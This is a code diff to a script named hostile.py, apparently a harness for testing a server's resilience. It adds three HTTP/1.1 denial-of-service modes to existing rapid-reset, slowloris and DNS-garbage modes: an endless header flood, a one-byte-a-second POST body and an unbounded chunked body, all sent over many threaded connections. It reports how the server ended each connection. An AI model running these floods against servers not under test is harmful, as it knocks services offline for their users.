@@ -7,6 +7,9 @@ DNS over UDP.
   scripts/hostile.py continuation ADDR HOST [SECONDS] [CONNECTIONS]
   scripts/hostile.py slowloris    ADDR HOST [SECONDS] [CONNECTIONS]
   scripts/hostile.py dns-garbage  ADDR HOST [SECONDS]
+  scripts/hostile.py header-flood ADDR HOST [SECONDS] [CONNECTIONS]
+  scripts/hostile.py slow-body    ADDR HOST [SECONDS] [CONNECTIONS] [PATH]
+  scripts/hostile.py huge-body    ADDR HOST [SECONDS] [CONNECTIONS] [PATH]
 
 rapid-reset: on each connection, a HEADERS for a new stream followed at
 once by its RST_STREAM (CANCEL), as fast as the socket takes them
@@ -17,7 +20,15 @@ sending its request head one header line every 2 s, never ending it; it
 reports when the server closed them. dns-garbage: bad queries as fast as
 one process sends them (a name pointing at itself, a name cut short, a
 3.9 kB message with names past 255 bytes, ANY, 3 bytes), counting the
-answers and their bytes. A connection the server closes is opened again until SECONDS pass.
+answers and their bytes. header-flood: on plain HTTP/1.1 (port 80), a
+request head whose header lines (100 bytes each) never end, sent as fast
+as the socket takes them. slow-body: a POST to PATH (default
+/api/hello) declaring a 1 MB body, sent one byte a second. huge-body: a
+POST to PATH with a chunked body (no declared length, so only counting
+can stop it) sent in 64 KiB chunks as fast as the socket takes them. For
+these three: how each connection ended (the status line the server
+answered, or closed), the most bytes one connection got in, and when the
+server ended them. A connection the server closes is opened again until SECONDS pass.
 Prints one JSON line: connections opened, streams (or CONTINUATION
 frames) and bytes sent, how each connection ended (GOAWAY code, reset,
 closed), and the most bytes one connection got in before it ended.
@@ -245,6 +256,64 @@ def dns_garbage(addr, host, seconds):
     }))
 
 
+def http1(addr, host, seconds, conns, head, feed, pace):
+    """CONNECTIONS threads, each opening connections to ADDR:80 until
+    SECONDS pass: HEAD is sent, then FEED(n) over and over (pace seconds
+    apart) until the server answers or closes."""
+    totals = {"connections": 0, "connect_failed": 0, "bytes": 0, "ended": {},
+              "most_bytes_one_connection": 0, "ended_after_secs": []}
+    lock = threading.Lock()
+    until = time.time() + seconds
+
+    def one():
+        while time.time() < until:
+            try:
+                s = socket.create_connection((addr, 80), timeout=5)
+            except OSError:
+                with lock:
+                    totals["connect_failed"] += 1
+                time.sleep(0.1)
+                continue
+            opened, sent, how, n = time.time(), 0, "open at the end", 0
+            try:
+                s.sendall(head)
+                sent += len(head)
+                while time.time() < until:
+                    r, _, _ = select.select([s], [], [], 0)
+                    if r:
+                        answer = s.recv(4096)
+                        how = answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"
+                        break
+                    chunk = feed(n)
+                    n += 1
+                    s.sendall(chunk)
+                    sent += len(chunk)
+                    if pace:
+                        time.sleep(pace)
+            except OSError as e:
+                how = "reset" if isinstance(e, ConnectionResetError) else "closed"
+            s.close()
+            with lock:
+                totals["connections"] += 1
+                totals["bytes"] += sent
+                key = how[:40]
+                totals["ended"][key] = totals["ended"].get(key, 0) + 1
+                totals["most_bytes_one_connection"] = max(totals["most_bytes_one_connection"], sent)
+                if how != "open at the end":
+                    totals["ended_after_secs"].append(round(time.time() - opened, 2))
+
+    threads = [threading.Thread(target=one) for _ in range(conns)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    ended = sorted(totals.pop("ended_after_secs"))
+    totals["ended_after_secs_median"] = ended[len(ended) // 2] if ended else None
+    totals["ended_after_secs_max"] = ended[-1] if ended else None
+    totals["seconds"] = seconds
+    return totals
+
+
 def main():
     mode, addr, host = sys.argv[1], sys.argv[2], sys.argv[3]
     seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 10
@@ -253,8 +322,25 @@ def main():
         return dns_garbage(addr, host, seconds)
     if mode == "slowloris":
         return slowloris(addr, host, seconds, conns)
+    path = sys.argv[6] if len(sys.argv) > 6 else "/api/hello"
+    if mode == "header-flood":
+        head = b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n"
+        totals = http1(addr, host, seconds, conns, head, lambda n: b"x-%08d: %s\r\n" % (n, b"a" * 86), 0)
+    elif mode == "slow-body":
+        head = b"POST " + path.encode() + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nContent-Length: 1000000\r\n\r\n"
+        totals = http1(addr, host, seconds, conns, head, lambda n: b"a", 1.0)
+    elif mode == "huge-body":
+        head = b"POST " + path.encode() + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
+        chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
+        totals = http1(addr, host, seconds, conns, head, lambda n: chunk, 0)
+    else:
+        totals = None
+    if totals is not None:
+        totals["attack"] = mode
+        print(json.dumps(totals))
+        return
     if mode not in ("rapid-reset", "continuation"):
-        sys.exit("mode: rapid-reset, continuation or slowloris")
+        sys.exit("mode: rapid-reset, continuation, slowloris, dns-garbage, header-flood, slow-body or huge-body")
     totals = {
         "attack": mode,
         "connections": 0,
